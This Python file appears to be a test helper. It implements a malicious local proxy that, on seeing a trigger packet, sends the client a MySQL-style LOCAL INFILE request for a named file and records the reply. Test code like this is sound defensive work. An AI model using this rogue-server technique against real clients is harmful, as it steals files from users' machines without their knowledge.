"""A server gone bad: a proxy before a real one that asks the client for a file of its machine."""

from __future__ import annotations

import socket
import threading
from contextlib import suppress
from typing import Self


class Intruder:
    """Hands everything on, and answers a packet with `instead_of` in it by asking for a file.

    port: where it listens. got: what the client
    sent next; then the connection ends.
    """

    def __init__(self, port: int, instead_of: bytes, wanted: str) -> None:
        self._to = port
        self._instead_of = instead_of
        self._asking = b"\xfb" + wanted.encode()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.got = b""

    def __enter__(self) -> Self:
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._listener.close()

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                server = socket.create_connection(("127.0.0.1", self._to))
                threading.Thread(target=self._hand_on, args=(server, client), daemon=True).start()
                threading.Thread(target=self._listen, args=(client, server), daemon=True).start()

    def _hand_on(self, server: socket.socket, client: socket.socket) -> None:
        with suppress(OSError):
            while data := server.recv(65536):
                client.sendall(data)

    def _listen(self, client: socket.socket, server: socket.socket) -> None:
        asked = False
        with suppress(OSError):
            while data := client.recv(65536):
                if asked:
                    self.got += data
                    break
                if self._instead_of in data:
                    asked = True
                    size = len(self._asking).to_bytes(3, "little")
                    client.sendall(size + b"\x01" + self._asking)
                else:
                    server.sendall(data)
        for end in (server, client):
            with suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)  # or its session, and what it locks, would stay
